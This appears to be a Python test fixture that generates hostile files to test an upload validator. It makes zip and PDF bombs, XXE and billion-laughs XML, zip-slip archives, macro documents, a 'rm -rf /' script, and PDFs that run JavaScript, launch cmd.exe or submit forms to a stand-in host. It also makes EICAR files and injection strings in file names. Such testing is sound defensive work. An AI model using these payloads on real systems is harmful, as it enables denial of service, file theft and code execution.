"""Hostile files, made anew from a seed at each run; none of them is kept anywhere.

Each says with which refusals it may be answered; `ACCEPTED` where it comes in once it
is harmless. `PAYLOAD` stands where something could be smuggled in: of what comes in
nothing may still hold it.
"""

import gzip
import json
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from io import BytesIO
from itertools import count, islice
from random import Random
from typing import Literal

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

ACCEPTED = "accepted"
PAYLOAD = b"<script>alert('tinhso-payload')</script>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
TYPE, TRUNCATED, ACTIVE = "FileTypeNotAccepted", "FileTruncated", "FileActive"
HARD, PIXELS, TWO = "FileTooDemanding", "FileTooManyPixels", "FileTwoInOne"
MISLEADS, LOCKED, UNREADABLE = "FileNameMisleads", "FileEncrypted", "Unreadable"
EACH = 28  # files of a family


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file, and the names of the answers that are right."""

    family: str
    name: str
    content: bytes
    right: frozenset[str]


Made = tuple[str, bytes, set[str]]
Family = Callable[[Random, int], Made]
FAMILIES: dict[str, Family] = {}


def family(make: Family) -> Family:
    """Enter a family under the name of its function."""
    FAMILIES[make.__name__] = make
    return make


def files(*, seed: int, each: int = EACH) -> Iterator[Hostile]:
    """Make `each` files of every family."""
    for name, make in FAMILIES.items():
        random = Random(f"{seed} {name}")
        for number in islice(count(), each):
            called, content, right = make(random, number)
            yield Hostile(name, called, content, frozenset(right))


@family
def zip_bombs(random: Random, number: int) -> Made:
    """Archives and documents that unfold into gigabytes, also one in the other."""
    inner = b"\0" * random.randrange(2**22, 2**24)
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for part in range(random.randrange(2, 12)):
            archive.writestr(f"word/part{part}.xml", inner)
    content = out.getvalue()
    for level in range(number % 5):
        content = zipped({f"{level}-{one}.zip": content for one in range(6)})
    ending = random.choice(("zip", "docx", "xlsx", "pptx", "pdf"))
    return f"bom.{ending}", content, {TYPE}


@family
def gzip_bombs(random: Random, number: int) -> Made:
    """Packed twice, so that a few bytes are gigabytes."""
    content = gzip.compress(b"\0" * random.randrange(2**20, 2**24))
    content = gzip.compress(content * random.randrange(1, 50))
    return random.choice(("bom.gz", "bom.svgz", "bom.pdf")), content, {TYPE}


@family
def pdf_bombs(random: Random, number: int) -> Made:
    """Streams of a PDF that unfold far: tables, pages, properties, filter on filter."""
    huge = b" " * random.randrange(2**26, 2**26 + 2**24)
    kinds = ("ObjStm", "XRef", "page", "metadata", "filters", "font")
    kind = kinds[number % len(kinds)]
    if kind in ("ObjStm", "XRef"):
        head = b"/Type /%s /N 1 /First 4 /W [1 2 1]" % kind.encode()
        return "bom.pdf", raw_pdf(packed(huge, head)), {TRUNCATED, HARD}
    if kind == "filters":
        body = zlib.compress(zlib.compress(zlib.compress(huge * 4)))
        many = b"/Filter [/FlateDecode /FlateDecode /FlateDecode]"
        page = b"<< %s /Length %d >>\nstream\n%s\nendstream" % (many, len(body), body)
        return "bom.pdf", raw_pdf(page), {TRUNCATED, HARD, ACCEPTED}
    return "bom.pdf", _bomb_in(kind, huge * 4), {TRUNCATED, HARD, ACCEPTED}


def _bomb_in(kind: str, huge: bytes) -> bytes:
    def plant(pdf: pikepdf.Pdf) -> None:
        stream = pdf.make_stream(zlib.compress(huge, 9), Filter=Name.FlateDecode)
        if kind == "page":
            pdf.pages[0].obj.Contents = stream
        elif kind == "metadata":
            pdf.Root.Metadata = stream
        else:
            pdf.pages[0].obj.Resources = Dictionary(
                Font=Dictionary(F=_font(pdf, stream))
            )

    return pdf_with(plant)


def _font(pdf: pikepdf.Pdf, program: pikepdf.Object) -> pikepdf.Object:
    words = Dictionary(Type=Name.FontDescriptor, FontName=Name.X, FontFile2=program)
    return pdf.make_indirect(
        Dictionary(
            Type=Name.Font,
            Subtype=Name.TrueType,
            BaseFont=Name.X,
            FontDescriptor=pdf.make_indirect(words),
        )
    )


@family
def png_bombs(random: Random, number: int) -> Made:
    """More pixels than announced, and words that unfold; also data behind the data."""
    extra = zlib.compress(b"\0" * random.randrange(2**24, 2**27), 9)
    small = zlib.compress(b"\0" * (40 * (1 + 40 * 3)))
    if number % 2:
        chunk = png_chunk(b"zTXt", b"Comment\0\0" + extra)
        return "anh.png", png(40, 40, small, chunk), {ACCEPTED}
    return "anh.png", png(40, 40, extra), {TRUNCATED}


@family
def pixel_floods(random: Random, number: int) -> Made:
    """Pictures of billions of pixels in a few bytes."""
    side = random.randrange(9_000, 2**31 - 1 if number % 3 else 60_000)
    if number % 2:
        content = bytearray(picture("JPEG"))
        at = content.find(b"\xff\xc0") + 5
        content[at : at + 4] = struct.pack("!HH", min(side, 65_500), 65_500)
        return "anh.jpg", bytes(content), {PIXELS, TRUNCATED}
    coded = zlib.compress(b"\0" * 1_000)
    return "anh.png", png(side, side, coded), {PIXELS, TRUNCATED}


@family
def polyglots(random: Random, number: int) -> Made:
    """Files that are two things at once."""
    archive = zipped({"payload.html": PAYLOAD, "../x": PAYLOAD})
    jpeg, plain = picture("JPEG"), picture("PNG")
    comment = b"\xff\xfe" + struct.pack("!H", len(PAYLOAD) + 2) + PAYLOAD
    choices: list[Made] = [
        ("hai.pdf", pdf_with() + archive + b"\n%%EOF\n", {TWO}),
        ("hai.pdf", _zip_around(pdf_with()), {TWO, TYPE}),
        ("hai.gif", b"GIF89a/*" + PAYLOAD + b"*/=1;", {TYPE}),
        ("hai.jpg", jpeg[:2] + comment + jpeg[2:], {ACCEPTED}),
        ("hai.jpg", jpeg + PAYLOAD + archive, {ACCEPTED}),
        ("hai.png", plain + archive, {ACCEPTED}),
        ("hai.png", _with_text(plain), {ACCEPTED}),
        ("hai.html", b"<html>" + PAYLOAD + pdf_with(), {TYPE}),
        ("hai.jpg", _with_exif(), {ACCEPTED}),
    ]
    return choices[number % len(choices)]


def _zip_around(pdf: bytes) -> bytes:
    """Put the table of an archive behind a PDF, whose end stands in its comment."""
    out = BytesIO(pdf)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("payload.html", PAYLOAD)
        archive.comment = b"\n%%EOF\n"
    return out.getvalue()


def _with_text(plain: bytes) -> bytes:
    text = png_chunk(b"tEXt", b"Comment\0" + PAYLOAD)
    profile = png_chunk(b"iCCP", b"x\0\0" + zlib.compress(PAYLOAD))
    return plain[:33] + text + profile + plain[33:-12] + text + plain[-12:]


def _with_exif() -> bytes:
    exif, out = Image.Exif(), BytesIO()
    exif[0x010E] = PAYLOAD.decode()
    exif[0x0112] = 6
    picture_of().save(out, "JPEG", exif=exif, icc_profile=PAYLOAD, comment=PAYLOAD)
    return out.getvalue()


@family
def entities(random: Random, number: int) -> Made:
    """XML that fetches files or unfolds a billion times."""
    laughs = "".join(
        f"<!ENTITY l{n} '{f'&l{n - 1};' * 10 if n else 'ha'}'>" for n in range(10)
    )
    fetching = "<!ENTITY l9 SYSTEM 'file:///etc/passwd'>"
    chosen = laughs if number % 2 else fetching
    xml = f"<?xml version='1.0'?><!DOCTYPE x [{chosen}]><p>&l9;</p>".encode()
    if number % 4 == 3:
        return "hinh.svg", xml.replace(b"<p>", b"<svg>"), {TYPE}
    place = random.choice(("word/document.xml", "xl/workbook.xml", "ppt/x.xml"))
    named = {"word": "docx", "xl": "xlsx", "ppt": "pptx"}[place.partition("/")[0]]
    parts = {"[Content_Types].xml": xml, place: xml}
    return f"van-ban.{named}", zipped(parts), {TYPE}


@family
def slips(random: Random, number: int) -> Made:
    """Archives whose names or links lead out of them."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        away = "../" * random.randrange(1, 30) + random.choice(("etc/cron.d/x", "a"))
        archive.writestr(away, PAYLOAD)
        link = zipfile.ZipInfo("link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
        archive.writestr("C:\\Windows\\x" if number % 2 else "x\0y", PAYLOAD)
    return random.choice(("a.zip", "a.docx", "a.pdf")), out.getvalue(), {TYPE}


@family
def macros(random: Random, number: int) -> Made:
    """Documents of Office with programs in them, new and old."""
    project = random.randbytes(300) + b'Attribut\0e VB_Nam\0e = "AutoOpen"' + PAYLOAD
    if number % 3 == 0:
        head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.randbytes(1_500)
        return random.choice(("a.doc", "a.xls", "a.pdf")), head + project, {TYPE}
    room, ending = random.choice((("word", "docm"), ("xl", "xlsm"), ("ppt", "pptm")))
    parts = {"[Content_Types].xml": b"<x/>", f"{room}/vbaProject.bin": project}
    return f"a.{ending}", zipped(parts), {TYPE}


@family
def wrong_types(random: Random, number: int) -> Made:
    """Names that say another kind than the bytes are."""
    choices: list[Made] = [
        ("giay.pdf", b"MZ\x90\0" + random.randbytes(500), {TYPE}),
        ("giay.pdf", b"\x7fELF" + random.randbytes(500), {TYPE}),
        ("giay.jpg", b"#!/bin/sh\nrm -rf /\n", {TYPE}),
        ("giay.pdf", picture("PNG"), {MISLEADS}),
        ("giay.png", picture("JPEG"), {MISLEADS}),
        ("giay.exe", pdf_with(), {MISLEADS}),
        ("giay.pdf.html", pdf_with(), {MISLEADS}),
        ("giay.svg", picture("JPEG"), {MISLEADS}),
        ("giay.pdf", b"<html>" + PAYLOAD, {TYPE}),
        ("giay.png", b"<svg onload='alert(1)'>" + PAYLOAD + b"</svg>", {TYPE}),
    ]
    return choices[number % len(choices)]


@family
def active_pdfs(random: Random, number: int) -> Made:
    """PDFs that run, open, send or carry something, in the open and out of sight."""
    deeds = list(_DEEDS.values())
    deed = deeds[number % len(deeds)]
    packing = pikepdf.ObjectStreamMode.generate if number % 2 else None
    saving = {"object_stream_mode": packing} if packing else {}
    content = pdf_with(deed, **saving)
    if number % 3 == 2 and not packing:
        content = content.replace(b"/JavaScript", b"/J#61vaScrip#74")
    return "giay.pdf", content, {ACTIVE}


def _script(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _launch(pdf: pikepdf.Pdf) -> None:
    deed = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    pdf.pages[0].obj.AA = Dictionary(O=deed)


def _carried(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["virus.exe"] = EICAR


def _form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(XFA=pdf.make_stream(b"<xdp/>"), Fields=Array())


def _calls_home(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String("http://192.0.2.1/"))


def _elsewhere(pdf: pikepdf.Pdf) -> None:
    deed = Dictionary(S=Name.GoToR, F=String("\\\\192.0.2.1\\share\\x.pdf"))
    pdf.Root.OpenAction = deed


def _sends(pdf: pikepdf.Pdf) -> None:
    deed = Dictionary(S=Name.SubmitForm, F=String("http://192.0.2.1/"))
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, A=deed, Rect=[0, 0, 9, 9])
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(note)])


def _media(pdf: pikepdf.Pdf) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9])
    pdf.pages[0].obj.Annots = Array([note])


def _names(pdf: pikepdf.Pdf) -> None:
    deed = Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), deed])))


_DEEDS = {
    deed.__name__: deed
    for deed in (
        _script, _launch, _carried, _form, _calls_home, _elsewhere, _sends, _media,
        _names,
    )
}  # fmt: skip


@family
def locked(random: Random, number: int) -> Made:
    """Files that only a password opens, or that anybody may open but not change."""
    if number % 4 == 3:
        archive = bytearray(zipped({"word/document.xml": b"x" * 100}))
        archive[6] |= 1
        return "a.docx", bytes(archive), {TYPE}
    user = "" if number % 2 else "mat-khau"
    strengths: tuple[Literal[2, 3, 4, 6], ...] = (2, 3, 4, 6)
    strength = random.choice(strengths)
    lock = pikepdf.Encryption(
        owner="o", user=user, R=strength, aes=strength > 3, metadata=strength > 3
    )
    return "giay.pdf", pdf_with(encryption=lock), {LOCKED}


@family
def truncated(random: Random, number: int) -> Made:
    """Good files that break off."""
    ending, whole = (
        ("pdf", pdf_with()),
        ("png", picture("PNG")),
        ("jpg", picture("JPEG")),
    )[number % 3]
    cut = random.randrange(20, len(whole) - 14)
    return f"giay.{ending}", whole[:cut], {TRUNCATED, TYPE}


@family
def eicar(random: Random, number: int) -> Made:
    """The test file that every scanner knows, bare and packed."""
    choices: list[Made] = [
        ("eicar.com", EICAR, {TYPE}),
        ("eicar.pdf", EICAR, {TYPE}),
        ("eicar.zip", zipped({"eicar.com": EICAR}), {TYPE}),
        ("eicar.docx", zipped({"word/x.bin": zipped({"e.com": EICAR})}), {TYPE}),
        ("eicar.pdf", pdf_with(_carried), {ACTIVE}),
    ]
    return choices[number % len(choices)]


@family
def names(random: Random, number: int) -> Made:
    """Good files under names that are not."""
    choices = (
        "a" * 10_000 + ".png",
        "ễ" * 400 + ".png",
        "../../../etc/passwd.png",
        "..\\..\\windows\\x.png",
        "anh\0.exe.png",
        "anh\u202egnp.exe.png",
        "anh\r\nSet-Cookie: a=b.png",
        "\x01\x02\x1b[31m.png",
        "<script>alert(1)</script>.png",
        "CON.png",
        ".htaccess.png",
        "' OR 1=1 --.png",
        "%00%2e%2e%2f.png",
        "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16") * 90 + ".png",
    )
    name = choices[number % len(choices)]
    return name, picture("PNG", random), {ACCEPTED, UNREADABLE, MISLEADS}


@family
def deep_pdfs(random: Random, number: int) -> Made:
    """Objects in objects without end, and pages that contain themselves."""
    depth = random.choice((1_000, 50_000, 400_000))
    deep = (
        b"[" * depth + b"]" * depth,
        b"<< /A " * depth + b"0" + b" >>" * depth,
        b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>",
        b"4 0 R",
    )[number % 4]
    return "giay.pdf", raw_pdf(deep), {TRUNCATED, HARD, ACTIVE, ACCEPTED}


@family
def wide_pdfs(random: Random, number: int) -> Made:
    """Thousands of pages, of objects, of strings."""
    many = random.choice((2_000, 20_000, 60_000))
    if number % 2:
        pages = b"3 0 R " * many
        body = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (pages, many)
        content = raw_pdf(body).replace(b"/Pages 2 0 R", b"/Pages 4 0 R")
    else:
        content = raw_pdf(*(b"(%d) " % one * 9 for one in range(many)))
    return "giay.pdf", content, {TRUNCATED, HARD, ACCEPTED}


@family
def crooked_tables(random: Random, number: int) -> Made:
    """Tables of a PDF that lie about places and sizes."""
    whole = pdf_with(object_stream_mode=pikepdf.ObjectStreamMode.disable)
    size = str(random.choice((2**31 - 1, 2**63, 10**9, 0, -1))).encode()
    start = whole.rfind(b"startxref")
    lies = (
        whole.replace(b"/Size", b"/Size %s /Old" % size),
        whole[:start] + b"startxref\n%s\n%%%%EOF\n" % size,
        whole[:start] + b"startxref\n9\n%%EOF\n",
        whole.replace(b"/Root", b"/Prev %d /Root" % whole.rfind(b"xref\n0")),
        whole.replace(b"/Count 1", b"/Count %s" % size),
    )
    return "giay.pdf", lies[number % len(lies)], {TRUNCATED, HARD, ACCEPTED}


@family
def scripts(random: Random, number: int) -> Made:
    """What a browser would run if it were served."""
    choices = (
        ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'>" + PAYLOAD + b"</svg>"),
        ("a.html", b"<!doctype html>" + PAYLOAD),
        ("a.mhtml", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + PAYLOAD),
        ("a.js", b"alert(1)"),
        ("a.hta", b"<hta:application>" + PAYLOAD),
        ("a.pdf", b"\xef\xbb\xbf<html>" + PAYLOAD),
        ("a.swf", b"CWS\x0a" + random.randbytes(99)),
    )
    name, content = choices[number % len(choices)]
    return name, content, {TYPE}


@family
def heavy_pictures(random: Random, number: int) -> Made:
    """Pictures that cost more time to decode than they weigh."""
    side = random.choice((3_000, 5_000, 6_300))
    if number % 2:
        out = BytesIO()
        Image.new("L", (side, side), 200).save(out, "JPEG", progressive=True)
        content, scan = out.getvalue(), out.getvalue().find(b"\xff\xda")
        again = content[scan:-2] * random.choice((5, 50, 400))
        heavy = content[:-2] + again[: 8 * 2**20] + content[-2:]
        return "anh.jpg", heavy, {ACCEPTED, HARD, TRUNCATED, PIXELS}
    coded = zlib.compress(b"\0" * (side * (1 + side * 3)), 1)
    return "anh.png", png(side, side, coded), {ACCEPTED, HARD, PIXELS}


@family
def heavy_scans(random: Random, number: int) -> Made:
    """Pages that show pictures far larger than a page."""
    side = random.choice((2_000, 20_000, 60_000))
    coded = zlib.compress(b"\xff" * min(side * side // 8, 2**27), 9)

    def plant(pdf: pikepdf.Pdf) -> None:
        image = pdf.make_stream(
            coded,
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=side,
            Height=side,
            BitsPerComponent=1,
            ColorSpace=Name.DeviceGray,
            Filter=Name.FlateDecode,
        )
        page = pdf.pages[0].obj
        page.Resources = Dictionary(XObject=Dictionary(I=image))
        page.MediaBox = Array([0, 0, random.choice((600, 14_400)), 800])
        page.Contents = pdf.make_stream(b"600 0 0 800 0 0 cm /I Do " * 9)

    return "giay.pdf", pdf_with(plant), {ACCEPTED, HARD, TRUNCATED}


@family
def long_lines(random: Random, number: int) -> Made:
    """Text made to keep a search busy."""
    piece = random.choice((b"<", b"<p ", b"<w:p>", b"&amp;", "Ậ ".encode(), b"M "))
    text = piece * random.randrange(2**19, 2**21)
    if number % 2:
        return "a.docx", zipped({"word/document.xml": text}), {TYPE}
    return "a.txt", text[: 9 * 2**20], {TYPE}


@family
def mutated(random: Random, number: int) -> Made:
    """Good files with some bytes changed."""
    ending, whole = (
        ("pdf", pdf_with(_titled)),
        ("png", picture("PNG", random)),
        ("jpg", picture("JPEG", random)),
    )[number % 3]
    content = bytearray(whole)
    for _ in range(random.randrange(1, 12)):
        content[random.randrange(8, len(content))] = random.randrange(256)
    right = {ACCEPTED, TRUNCATED, TYPE, PIXELS, HARD, LOCKED, ACTIVE, MISLEADS}
    return f"giay.{ending}", bytes(content), right


def _titled(pdf: pikepdf.Pdf) -> None:
    pdf.docinfo["/Title"] = "Giấy"


def zipped(parts: dict[str, bytes]) -> bytes:
    """Make an archive."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def pdf_with(
    plant: Callable[[pikepdf.Pdf], None] = lambda pdf: None,
    **saving: object,
) -> bytes:
    """Make a PDF of one page, and put something into it."""
    out = BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        plant(pdf)
        pdf.save(out, **saving)  # type: ignore[arg-type]
    return out.getvalue()


def raw_pdf(*bodies: bytes) -> bytes:
    """Write a PDF of one page by hand; the bodies are its objects from 4 on."""
    objects = (
        b"<< /Type /Catalog /Pages 2 0 R /Extra 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        *bodies,
    )
    out, places = BytesIO(), []
    out.write(b"%PDF-1.7\n")
    for number, body in enumerate(objects, start=1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    out.write(b"trailer << /Size %d /Root 1 0 R >>\n" % (len(objects) + 1))
    out.write(b"startxref\n%d\n%%%%EOF\n" % start)
    return out.getvalue()


def packed(content: bytes, words: bytes) -> bytes:
    """Write a packed stream with the words of its dictionary."""
    body = zlib.compress(content, 9)
    head = b"<< %s /Filter /FlateDecode /Length %d >>" % (words, len(body))
    return head + b"\nstream\n" + body + b"\nendstream"


def png(width: int, height: int, coded: bytes, *more: bytes) -> bytes:
    """Write a PNG of coded pixels, whatever they are."""
    head = struct.pack("!II", width, height) + b"\x08\2\0\0\0"
    chunks = (png_chunk(b"IHDR", head), *more, png_chunk(b"IDAT", coded))
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks) + png_chunk(b"IEND", b"")


def png_chunk(kind: bytes, body: bytes) -> bytes:
    """Write a chunk with its sum."""
    checked = kind + body
    return (
        struct.pack("!I", len(body)) + checked + struct.pack("!I", zlib.crc32(checked))
    )


def picture_of(random: Random | None = None) -> Image.Image:
    """Draw a small picture, another one for each seed."""
    pixels = (random or Random(7)).randbytes(50 * 40 * 3)
    return Image.frombytes("RGB", (50, 40), pixels)


def picture(kind: str, random: Random | None = None) -> bytes:
    """Draw it as a file."""
    out = BytesIO()
    picture_of(random).save(out, kind)
    return out.getvalue()


def listed(hostile: Hostile) -> str:
    """Name a file on one line, for a report."""
    return json.dumps([hostile.family, hostile.name[:60], len(hostile.content)])
